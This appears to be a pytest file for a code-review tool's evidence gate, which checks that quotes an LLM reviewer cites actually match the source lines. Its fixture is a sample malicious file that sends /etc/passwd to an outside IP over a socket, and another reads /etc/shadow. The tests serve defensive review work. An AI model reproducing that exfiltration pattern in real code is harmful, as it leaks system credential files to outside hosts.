"""The evidence gate decides what counts as evidence, whatever the model claims."""

from __future__ import annotations

import hashlib

import pytest

from prism.evidence import Evidence
from prism.intake.project import Project
from prism.review.llm.gate import source_lines, verify_claim
from prism.review.llm.types import ClaimedEvidence

SOURCE = """import socket


def build_model(ctx):
    s = socket.create_connection(("198.51.100.7", 443))
    s.sendall(open("/etc/passwd", "rb").read())
    return None
"""
PROJECT = Project(files={"model.py": SOURCE, "win.py": "a = 1\r\nb = open('/etc/shadow')\r\n"})


def claim(quote: str, start: int, end: int | None = None, path: str = "model.py") -> ClaimedEvidence:
    return ClaimedEvidence(path, start, start if end is None else end, quote, "network_escape", "why")


@pytest.mark.parametrize(
    ("quote", "start", "end"),
    [
        ('    s = socket.create_connection(("198.51.100.7", 443))', 5, 5),
        ('s = socket.create_connection(("198.51.100.7",   443))', 5, 5),  # whitespace only differs
        ('socket.create_connection(("198.51.100.7", 443))\n    s.sendall(open("/etc/passwd"', 5, 6),
        ('5 | s = socket.create_connection(("198.51.100.7", 443))', 5, 5),  # the prompt's own prefix
        ("import socket", 1, 1),
        ('open("/etc/passwd", "rb").read())\n    return None', 6, 7),  # starts mid-line, touches both ends
    ],
)
def test_real_quotes_verify(quote: str, start: int, end: int) -> None:
    result = verify_claim(PROJECT, claim(quote, start, end), max_lines=40)

    assert isinstance(result, Evidence), result
    assert result.rule_id == "llm.network_escape"
    cited = "\n".join(SOURCE.splitlines()[start - 1 : end])
    assert result.snippet_sha256 == hashlib.sha256(cited.encode()).hexdigest()


@pytest.mark.parametrize(
    ("quote", "start", "end", "problem"),
    [
        ('s = socket.create_connection(("10.0.0.1", 443))', 5, 5, "does not match"),  # altered text
        ('s = socket.create_connection(("198.51.100.7", 443))', 4, 4, "does not match"),  # wrong line
        ('s.sendall(open("/etc/passwd", "rb").read())', 1, 7, "does not match"),  # stretched range
        ("sendall", 6, 6, "does not match"),  # too small a fragment to prove anything
        ("", 6, 6, "does not match"),
        ("import socket", 0, 1, "outside the file"),
        ("return None", 7, 8, "outside the file"),
        ("import socket", 3, 2, "outside the file"),
    ],
)
def test_false_claims_do_not_verify(quote: str, start: int, end: int, problem: str) -> None:
    result = verify_claim(PROJECT, claim(quote, start, end), max_lines=40)

    assert isinstance(result, ClaimedEvidence)
    assert problem in result.problem


def test_a_claim_on_a_missing_file_or_too_many_lines_does_not_verify() -> None:
    missing = verify_claim(PROJECT, claim("import socket", 1, path="other.py"), max_lines=40)
    wide = verify_claim(PROJECT, claim("import socket\n\n\ndef build_model(ctx):", 1, 4), max_lines=3)

    assert isinstance(missing, ClaimedEvidence) and missing.problem == "no such file in the project"
    assert isinstance(wide, ClaimedEvidence) and "at most 3" in wide.problem


def test_crlf_files_are_numbered_like_the_prompt_numbers_them() -> None:
    assert source_lines("a\r\nb\rc\n") == ["a", "b", "c"]
    result = verify_claim(PROJECT, claim("b = open('/etc/shadow')", 2, path="win.py"), max_lines=40)

    assert isinstance(result, Evidence)
    assert result.snippet_sha256 == hashlib.sha256(b"b = open('/etc/shadow')").hexdigest()
